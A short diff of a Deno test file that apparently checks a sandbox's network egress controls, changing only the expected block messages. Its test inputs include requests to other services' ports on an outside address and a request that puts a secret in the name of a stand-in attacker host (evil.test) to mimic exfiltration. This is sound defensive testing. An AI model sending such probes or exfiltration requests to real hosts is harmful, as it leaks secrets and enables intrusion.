@@ -140,7 +140,7 @@ Deno.test("hostile egress: redirects and odd addresses", async (t) => {
     await t.step("ports of other services", async () => {
       for (const number of [22, 25, 53, 445, 3306, 5432, 6379, 11211, 10250, 6667]) {
         const code = `requests.get("http://93.184.216.34:${number}/", timeout=5)`;
-        assertStringIncludes(await attempt(code), `Port ${number} is not open`);
+        assertStringIncludes(await attempt(code), `Port ${number} is blocked`);
       }
       for (const number of [0, 65_536, -1]) {
         const said = await attempt(`result = http(url="http://site.test:${number}/")`);
@@ -171,7 +171,7 @@ Deno.test("hostile egress: names outside EGRESS_HOSTS are not even looked up", a
   await withNetwork({ hosts: ["api.example.com"] }, async ({ attempt, broker }) => {
     await t.step("a secret in a name of the attacker's", async () => {
       const said = await attempt(`requests.get("http://my-secret.evil.test/", timeout=5)`);
-      assertStringIncludes(said, "not among those that sandboxed code may reach");
+      assertStringIncludes(said, "not among the hosts that the operator allows");
     });
     await t.step("the interpreter's own resolver", async () => {
       await attempt(`
